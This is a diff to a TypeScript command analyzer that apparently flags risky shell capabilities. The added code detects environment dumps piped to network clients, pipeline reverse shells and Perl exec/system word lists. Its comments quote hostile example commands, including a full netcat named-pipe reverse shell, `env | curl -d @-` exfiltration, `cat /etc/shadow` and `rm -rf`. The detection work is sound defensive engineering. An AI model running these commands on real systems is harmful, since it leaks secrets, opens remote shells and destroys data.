@@ -306,6 +306,31 @@ export class CommandAnalyzer {
       if (o.op === "net" && o.upload) caps.add("upload");
     }
     if (e.code) caps.add("code");
+    // the whole environment (API keys, tokens) piped into a program that connects (`env | curl -d @- …`, `printenv | nc …`)
+    const dumpsEnv = (p: SimpleCmd) => {
+      const ws = p.words.map((w) => w.text);
+      const prog = basename(ws[0] ?? "");
+      return (
+        (prog === "env" && ws.slice(1).every((a) => a.startsWith("-") || /^[A-Za-z_]\w*=/.test(a))) ||
+        (prog === "printenv" && ws.length === 1) ||
+        ((prog === "export" || prog === "declare") && ws.slice(1).every((a) => /^-[pxa]+$/.test(a))) ||
+        (prog === "set" && ws.length === 1)
+      );
+    };
+    if (caps.has("net") && c.pipeFrom.some(dumpsEnv)) {
+      this.pathOp("read", "/proc/self/environ", false, e.program, inh);
+      caps.add("read");
+    }
+    // a shell whose input or output goes through a network client on the same pipeline
+    // (`cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f`)
+    if (
+      caps.has("net") &&
+      [...inh.feeds].some((f) => SHELL_SET.has(f)) &&
+      c.pipeFrom.some(
+        (p) => p.words.length >= 1 && SHELL_SET.has(basename(p.words[0].text)) && !p.words.some((w) => w.text === "-c" || /\.\w+$/.test(w.text)),
+      )
+    )
+      caps.add("revshell");
     // A shell wired to a network connection (GTFOBins reverse-shell / bind-shell): the code itself opens a
     // socket and spawns a shell (`socket.connect(…); pty.spawn('sh')`), or the program listens and serves a shell.
     if (caps.has("shell") && ((e.code && this.ops.slice(start + 1).some((o) => o.op === "net" && o.program === e.program)) || caps.has("listen")))
@@ -849,6 +874,10 @@ export class CommandAnalyzer {
       )
     )
       e.caps.push("dynexec");
+    // Perl's word lists: `system qw(rm -rf /x)`, `exec qw{cat /etc/shadow}`
+    if (/^perl/.test(program))
+      for (const m of code.matchAll(/\b(?:exec|system)\s*\(?\s*qw\s*(?:\(([^)]*)\)|\{([^}]*)\}|\[([^\]]*)\]|<([^>]*)>)/g))
+        run((m[1] ?? m[2] ?? m[3] ?? m[4] ?? "").trim().split(/\s+/).map(shellQuote).join(" "));
     // Perl/Ruby calls without parentheses: `exec "/bin/sh -i"`, `system "cat", "/etc/shadow"`
     if (/^(perl|ruby|php|lua)/.test(program))
       for (const m of code.matchAll(/\b(?:exec|system|spawn)\s+((["'])(?:\\.|(?!\2)[^\\])*\2(?:\s*,\s*(["'])(?:\\.|(?!\3)[^\\])*\3)*)/g)) {
@@ -938,7 +967,9 @@ export class CommandAnalyzer {
       // a template's placeholders (`f"/x/{name}"`, `` `/x/${n}` ``, `"/x/#{n}"`) stand for any name there
       const path = raw.replace(/[$#]?\{[^}]*\}/g, "*");
       // a directory the code lists (glob, walk, listdir, readdir, Dir.glob): what it does to the entries it does under it
-      const enumerates = /(?:glob|walk|listdir|scandir|readdir\w*|iterdir|rglob|opendir|Dir\.\w+|Dir\s*\[)\s*[([]?\s*$/.test(before);
+      const enumerates =
+        /(?:glob|walk|listdir|scandir|readdir\w*|iterdir|rglob|opendir|Dir\.\w+|Dir\s*\[)\s*[([]?\s*$/.test(before) ||
+        /^\s*\)\s*\.\s*(?:rglob|glob|iterdir|walk)\s*\(/.test(code.slice(end));
       // a directory joined with a computed name (`'/home/u/.ssh/' + f`, `"$dir/" . $f`): any file under it
       const joined = /\/$/.test(path) && /^\s*(?:\+|\.(?!\w)|,)\s*[\w$@]/.test(code.slice(end));
       if (enumerates || joined) {
